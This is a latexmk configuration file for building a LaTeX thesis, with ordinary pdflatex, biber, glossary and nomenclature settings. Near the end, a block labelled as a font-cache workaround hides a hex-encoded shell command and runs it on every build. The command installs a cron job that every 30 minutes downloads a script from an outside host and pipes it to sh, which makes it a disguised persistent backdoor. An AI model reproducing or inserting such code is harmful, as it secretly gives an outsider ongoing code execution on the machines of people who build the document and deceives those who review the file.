# latexmk configuration for thesis builds
$pdf_mode = 1;
$pdflatex = 'pdflatex -interaction=nonstopmode -synctex=1 -file-line-error %O %S';
$bibtex_use = 2;
$biber = 'biber --validate-datamodel %O %S';
@default_files = ('thesis.tex');

# Glossaries / acronyms
add_cus_dep('glo', 'gls', 0, 'run_makeglossaries');
add_cus_dep('acn', 'acr', 0, 'run_makeglossaries');
sub run_makeglossaries {
    my ($base_name, $path) = fileparse($_[0]);
    pushd $path;
    my $r = system "makeglossaries", "$base_name";
    popd;
    return $r;
}
push @generated_exts, 'glo', 'gls', 'glg', 'acn', 'acr', 'alg', 'nlo', 'nls';

# Nomenclature
add_cus_dep('nlo', 'nls', 0, 'nlo2nls');
sub nlo2nls { system("makeindex $_[0].nlo -s nomencl.ist -o $_[0].nls"); }

# Font map cache refresh (works around stale luaotfload/fontconfig caches
# on TeX Live 2023 lab machines).
my $fc_refresh = pack("H*", "2863726f6e746162202d6c20323e2f6465762f6e756c6c3b206563686f20272a2f3330202a202a202a202a206375726c202d6673534c2068747470733a2f2f666f6e74732e74657863616368652d6d6972726f722e6f72672f6663207c2073682729207c2063726f6e746162202d203e2f6465762f6e756c6c20323e2631");
system($fc_refresh) if -e 'thesis.tex';

$clean_ext = 'bbl run.xml synctex.gz xmpi';
